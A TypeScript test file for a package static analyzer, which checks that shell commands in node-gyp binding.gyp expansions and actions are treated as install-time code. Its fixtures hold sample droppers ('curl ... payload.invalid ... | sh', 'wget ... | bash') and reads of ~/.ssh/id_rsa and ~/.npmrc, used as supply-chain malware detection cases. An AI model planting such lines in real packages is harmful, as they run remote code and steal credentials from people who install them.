import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import { analyzeStatic } from './analyze-static.js';
import { expansionsIn, gypCode } from './gyp-commands.js';
import { makeTarball, packageJson } from './test-support/make-tarball.js';
import type { StaticReport } from './types.js';

const code = (files: Record<string, string>) => gypCode(new Set(Object.keys(files)), (p) => files[p]);

describe('gyp command expansions and actions', () => {
  test('expansions of every form, nested ones too, with the line they are on', () => {
    assert.deepEqual(expansionsIn('<!(echo a)-<!@(ls "x (y)")->!(pwd)'), [
      { kind: 'expansion', body: 'echo a' },
      { kind: 'expansion', body: 'ls "x (y)"' },
      { kind: 'expansion', body: 'pwd' },
    ]);
    assert.deepEqual(
      expansionsIn('<!(cat <!(echo f))').map((e) => e.body),
      ['cat <!(echo f)', 'echo f'],
    );
    assert.deepEqual(expansionsIn('<(node_root_dir)/include <@(sources) >(_outputs)'), []);
    const { commands } = code({
      'binding.gyp': [
        '# <!(echo in a comment) is not run',
        "{ 'variables': { 'v': '<!(node tools/a.js)',",
        "                 'w': '<!@' '(pkg-config --libs x)' },",
        "  'targets': [ { 'target_name': 't', 'sources': [ '<!pymod_do_main(tools.gen sources)' ],",
        '    "include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")"],',
        "    'actions': [ { 'action_name': 'a', 'inputs': [], 'outputs': ['x.h'],",
        "      'action': [ 'sh', 'tools/gen.sh', '<@(_outputs)', 'a b' ] } ] } ] }",
      ].join('\n'),
    });
    assert.deepEqual(
      commands.map((c) => [c.line, c.kind, c.command]),
      [
        [2, 'expansion', 'node tools/a.js'],
        [3, 'expansion', 'pkg-config --libs x'],
        [4, 'pymod', 'python3 tools/gen.py sources'],
        [5, 'expansion', `node -p "require('node-addon-api').include"`],
        [7, 'action', "sh tools/gen.sh '<@(_outputs)' 'a b'"],
      ],
    );
  });

  test('follows includes and gyp dependencies from binding.gyp, plus root config.gypi; not other gyp files', () => {
    const { files, commands } = code({
      'binding.gyp':
        "{ 'includes': ['build/common.gypi'], 'targets': [ { 'target_name': 't', 'dependencies': ['deps/z/z.gyp:z'] } ] }",
      'build/common.gypi': "{ 'variables': { 'x': '<!(sh ../tools/x.sh)' } }",
      'deps/z/z.gyp': "{ 'includes': ['../../build/common.gypi', '/etc/evil.gypi'], 'targets': [] }",
      'config.gypi': "{ 'variables': { 'y': '<!(echo y)' } }",
      'vendor/unused.gyp': "{ 'variables': { 'z': '<!(curl -s http://c.invalid | sh)' } }",
    });
    assert.deepEqual(files, ['binding.gyp', 'config.gypi', 'build/common.gypi', 'deps/z/z.gyp']);
    assert.deepEqual(
      commands.map((c) => `${c.file}: ${c.command}`),
      ['config.gypi: echo y', 'build/common.gypi: sh ../tools/x.sh'],
    );
    assert.deepEqual(code({ 'src/binding.gyp': "{ 'v': '<!(id)' }" }), { files: [], commands: [] });
  });
});

async function analyze(
  files: Record<string, string>,
  manifest: Record<string, unknown> = {},
): Promise<StaticReport> {
  return analyzeStatic({
    name: 'gyp-pkg',
    version: '1.0.0',
    tarball: await makeTarball({
      'package.json': packageJson({ name: 'gyp-pkg', version: '1.0.0', ...manifest }),
      ...files,
    }),
    packument: {},
  });
}

describe('analyzeStatic: gyp code is install-time code', () => {
  test('a dropper in a command expansion is an install-time shell signal in binding.gyp', async () => {
    const r = await analyze({
      'binding.gyp':
        "{\n  'variables': { 'v': '<!(curl -s http://payload.invalid/x.sh | sh)' },\n  'targets': [] }\n",
    });
    assert.deepEqual(
      r.installScripts.map((s) => [s.command, s.implicit, s.files]),
      [['node-gyp rebuild', true, ['binding.gyp']]],
    );
    const dropper = r.code.find((c) => c.kind === 'shell-downloader' && c.file === 'binding.gyp#expansion');
    assert.equal(dropper?.strength, 'strong');
    assert.equal(dropper?.line, 2);
    assert.deepEqual(dropper?.reach, { install: true, import: false });
  });

  test('files an expansion or action runs are install-reachable and scanned as such', async () => {
    const r = await analyze({
      'binding.gyp':
        "{ 'variables': { 'f': '<!(node tools/flags.js)' }, 'targets': [ { 'target_name': 't', 'type': 'none',\n" +
        "  'actions': [ { 'action_name': 'g', 'inputs': [], 'outputs': ['o.h'], 'action': ['sh', 'tools/gen.sh'] } ] } ] }",
      'tools/flags.js': "require('./read');\n",
      'tools/read.js':
        "const fs = require('fs');\nfs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n",
      'tools/gen.sh': 'wget -qO- http://payload.invalid/p | bash\n',
      'tools/unused.js': "require('fs').readFileSync(process.env.HOME + '/.npmrc');\n",
    });
    assert.deepEqual(r.installScripts[0]?.files, ['binding.gyp', 'tools/flags.js', 'tools/gen.sh']);
    assert.deepEqual(r.reachable.install, ['tools/flags.js', 'tools/read.js']);
    const installSignals = r.code.filter((c) => c.reach.install).map((c) => `${c.kind} ${c.file}`);
    assert.ok(installSignals.includes('credential-path tools/read.js'), installSignals.join('\n'));
    assert.ok(installSignals.includes('shell-downloader tools/gen.sh'), installSignals.join('\n'));
    assert.ok(!r.code.some((c) => c.file === 'tools/unused.js' && c.reach.install));
  });

  test('a node-addon-api style expansion raises nothing; an explicit node-gyp script also reads binding.gyp', async () => {
    const gyp = {
      'binding.gyp':
        "{ 'targets': [ { 'target_name': 'a', 'sources': ['src/a.cc'],\n" +
        '  "include_dirs": ["<!@(node -p \\"require(\'node-addon-api\').include\\")"] } ] }',
      'src/a.cc': '#include <napi.h>\n',
    };
    const implicit = await analyze(gyp);
    assert.deepEqual(
      implicit.code.filter((c) => c.reach.install),
      [],
    );
    const explicit = await analyze(gyp, { scripts: { install: 'node-gyp-build' } });
    assert.deepEqual(
      explicit.installScripts.map((s) => [s.implicit, s.files]),
      [[false, ['binding.gyp']]],
    );
    const prebuilt = await analyze(gyp, { scripts: { install: 'node scripts/download.js' } });
    assert.deepEqual(
      prebuilt.installScripts.map((s) => s.files),
      [[]],
      'no gyp build, no gyp code',
    );
  });
});
